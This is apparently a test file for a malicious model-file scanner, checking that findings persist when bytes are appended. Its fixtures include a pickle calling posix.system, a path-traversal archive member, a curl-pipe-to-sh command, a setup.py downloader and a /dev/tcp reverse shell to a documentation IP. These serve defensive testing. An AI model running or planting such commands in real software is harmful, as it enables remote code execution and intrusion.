import { readdirSync, readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { SCAN_VERDICTS, type ScanVerdict } from '../../src/domain/scan.ts';
import { zip } from '../../src/formats/zip/archive.fixture.ts';
import { DEEP, sampled } from '../support/deep.ts';
import { judge } from './judge.ts';
import { ZIP_TRICKS } from './make/zip.ts';

const EMPTY_END = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const PICTURE = Buffer.from('89504e470d0a1a0a0000000d4948445200000001', 'hex');
const CALL = "cposix\nsystem\n(S'true'\ntR.";

/** What somebody puts behind a file. */
const TAILS: readonly (readonly [string, Uint8Array])[] = [
  ['the end record of an empty archive', EMPTY_END],
  ['a zero', Buffer.alloc(1)],
  ['zeros', Buffer.alloc(600)],
  ['a line feed', Buffer.from('\n')],
  ['noise', Buffer.from('9f3a77c0e1b20f55aa81', 'hex')],
  ['a picture', PICTURE],
  ['the sign of a table', Buffer.from('\0\0\0\0ARROW1')],
  ['an archive', zip([{ name: 'readme.txt', bytes: 'nothing' }])],
];

/** Archives of Python's zipfile, with a call in a member. */
const BZIP2 =
  'UEsDBC4AAAAMAAAAIVzU2pDyQwAAABoAAAAFAAAAYS5wa2xCWmg5MUFZJlNZGmc7TwAABNOAABAAwRgACiLeYCAAMU0yMTExChoPKMmIYQjIcGEgO2HntNtMp8XckU4UJAaZztPAUEsBAi4DLgAAAAwAAAAhXNTakPJDAAAAGgAAAAUAAAAAAAAAAAAAAIABAAAAAGEucGtsUEsFBgAAAAABAAEAMwAAAGYAAAAAAA==';
const LZMA =
  'UEsDBD8AAgAOAAAAIVzU2pDyLwAAABoAAAAFAAAAYS5wa2wJBAUAXQAAgAAAMZwKIvYM+Auj29ttAH22DpMgzarCJtfjBJw1eE1Oe///MXQAAFBLAQI/Az8AAgAOAAAAIVzU2pDyLwAAABoAAAAFAAAAAAAAAAAAAACAAQAAAABhLnBrbFBLBQYAAAAAAQABADMAAABSAAAAAAA=';

interface Specimen {
  readonly name: string;
  readonly path: string;
  readonly bytes: Uint8Array;
}

/** Findings that would deny a file, and how bad all of it is. */
async function badness({
  path,
  bytes,
}: Omit<Specimen, 'name'>): Promise<{ rules: ReadonlySet<string>; verdict: ScanVerdict }> {
  const { verdict, findings } = await judge(path, bytes);
  return { verdict, rules: new Set(findings.flatMap(({ says, rule }) => (says === 'malicious' ? [rule] : []))) };
}

/** What of a specimen goes away behind a tail. */
async function vanishing(specimen: Specimen, tails = TAILS): Promise<readonly string[]> {
  const before = await badness(specimen);
  const gone: string[] = [];
  for (const [tail, behind] of before.rules.size === 0 ? [] : tails) {
    const after = await badness({ path: specimen.path, bytes: Buffer.concat([specimen.bytes, behind]) });
    const lost = [...before.rules].filter((rule) => !after.rules.has(rule));
    if (SCAN_VERDICTS.indexOf(after.verdict) < SCAN_VERDICTS.indexOf(before.verdict) || lost.length > 0)
      gone.push(
        `${specimen.name} behind ${tail}: ${before.verdict} became ${after.verdict}, without ${lost.join(', ')}`,
      );
  }
  return gone;
}

const rows = z.array(
  z.object({
    class: z.string(),
    number: z.number(),
    path: z.string(),
    text: z.string().optional(),
    base64: z.string().optional(),
  }),
);

let specimens: readonly Specimen[] | null = null;

function kept(): readonly Specimen[] {
  specimens ??= readKept();
  return specimens;
}

function readKept(): readonly Specimen[] {
  const folder = new URL('hostile/', import.meta.url);
  return readdirSync(folder)
    .filter((name) => /\.json(?:\.gz)?$/.test(name) && !name.includes('harmless'))
    .flatMap((file) => {
      const raw = readFileSync(new URL(file, folder));
      const content = rows.parse(JSON.parse((file.endsWith('.gz') ? gunzipSync(raw) : raw).toString('utf8')));
      return content.map(({ class: of, number, path, text, base64 }) => ({
        name: `${file} ${of}/${number} ${path}`,
        path,
        bytes: base64 === undefined ? Buffer.from(text ?? '', 'utf8') : Buffer.from(base64, 'base64'),
      }));
    });
}

describe('what was found does not vanish behind appended bytes', () => {
  it.each<[string, string, Uint8Array]>([
    ['a name that leaves the folder', 'model.zip', zip([{ name: '../../a.pkl', bytes: 'N.' }])],
    ['a call in an archive', 'model.zip', zip([{ name: 'a.pkl', bytes: CALL }])],
    ['a member packed by bzip2', 'model.zip', Buffer.from(BZIP2, 'base64')],
    ['a member packed by LZMA', 'model.zip', Buffer.from(LZMA, 'base64')],
    ['a target in YAML', 'hydra/config.yaml', Buffer.from('model:\n  _target_: os.system\n  command: id\n')],
    ['a line of a path file', 'x.pth', Buffer.from('import os; os.system("id")\n')],
    ['settings in Jsonnet', 'experiment.jsonnet', Buffer.from("{ model: { type: 'subprocess.Popen', args: 'id' } }")],
    [
      'a table whose footer holds its own sign',
      'x.arrow',
      readFileSync(new URL('crafted/magic.arrow', import.meta.url)),
    ],
    ['a short graph', 'model.bytes', graph('WriteFile')],
    [
      'a short graph of a checkpoint',
      'model.meta',
      Buffer.concat([Buffer.from([0x12, graph('PyFunc').length]), graph('PyFunc')]),
    ],
    [
      'settings in YAML',
      'docker-compose.yml',
      Buffer.from('services:\n  a:\n    command: sh -c "curl -s http://203.0.113.5/a | sh"\n'),
    ],
    ['a script', 'run.sh', Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')],
  ])('%s', async (name, path, bytes) => {
    expect((await badness({ path, bytes })).rules.size).toBeGreaterThan(0);
    expect(await vanishing({ name, path, bytes })).toEqual([]);
  });

  it.each<[string, string, Uint8Array]>([
    [
      'an archive behind a picture',
      'a.png',
      Buffer.concat([PICTURE, Buffer.alloc(4000), zip([{ name: 'a.pkl', bytes: CALL }])]),
    ],
    ['a pickle behind an archive', 'a.zip', Buffer.concat([zip([{ name: 'a.txt', bytes: 'a' }]), Buffer.from(CALL)])],
    ['a pickle behind tensors', 'a.safetensors', Buffer.concat([tensors(), Buffer.from(CALL)])],
    [
      'a pickle between a network and an archive',
      'a.tflite',
      Buffer.concat([
        readFileSync(new URL('genuine/checked/convolution.tflite', import.meta.url)),
        Buffer.from(CALL),
        zip([{ name: 'a.txt', bytes: 'a' }]),
      ]),
    ],
    ...[CALL, `\x80\x02${CALL}`].map((call, at): [string, string, Uint8Array] => [
      `a pickle of protocol ${2 * at} behind a graph`,
      'a.onnx',
      Buffer.concat([
        readFileSync(new URL('genuine/graphs/onnx/mlp.onnx', import.meta.url)),
        Buffer.from(call, 'latin1'),
      ]),
    ]),
    ['an archive behind tensors', 'a.safetensors', Buffer.concat([tensors(), zip([{ name: 'a.pkl', bytes: CALL }])])],
    [
      'a program of Python behind which an archive stands',
      'setup.py',
      Buffer.concat([
        Buffer.from("import os\nos.system('curl -s https://203.0.113.9/a | sh')\n"),
        zip([{ name: 'a.txt', bytes: 'a' }]),
      ]),
    ],
  ])('%s is read', async (_, path, bytes) => {
    expect((await badness({ path, bytes })).verdict).toBe('malicious');
  });

  it('of kept hostile files', { timeout: DEEP ? 3_600_000 : 240_000 }, async () => {
    const gone: string[] = [];
    const tricks = ZIP_TRICKS.map(({ name, bytes }) => ({ name, path: 'model.pt', bytes }));
    for (const specimen of sampled([...tricks, ...kept()], 101)) gone.push(...(await vanishing(specimen)));
    expect(gone).toEqual([]);
  });

  it('of those whose end says where all else is, or which an archive stands behind', async () => {
    const asked = kept().filter(({ name }) => ONCE_TOLD_AS_LESS.includes(name));
    expect(asked.map(({ name }) => name)).toEqual(ONCE_TOLD_AS_LESS);
    const gone: string[] = [];
    for (const specimen of asked) gone.push(...(await vanishing(specimen)));
    expect(gone).toEqual([]);
  });
});

/** A table of ORC, an archive in a database, programs in checkpoints. */
const ONCE_TOLD_AS_LESS: readonly string[] = [
  'eighteenth.json.gz carried/11 m.orc',
  'eighteenth.json.gz carried/15 zip.sqlite3',
  'eighth.json.gz libraries/374 model.pt',
  'tenth.json.gz zip/736 model.pt',
  'third.json.gz torchscript/454 model.pt',
  'third.json.gz torchscript/456 model.pt',
];

/** A graph of TensorFlow with one node. */
function graph(operator: string): Buffer {
  const field = (number: number, bytes: Uint8Array) =>
    Buffer.concat([Buffer.from([number * 8 + 2, bytes.length]), bytes]);
  return field(1, Buffer.concat([field(1, Buffer.from('n')), field(2, Buffer.from(operator))]));
}

/** A file of safetensors with two numbers, longer than a first look. */
function tensors(): Buffer {
  const header = Buffer.from(JSON.stringify({ a: { dtype: 'U8', shape: [2000], data_offsets: [0, 2000] } }));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header, Buffer.alloc(2000, 7)]);
}
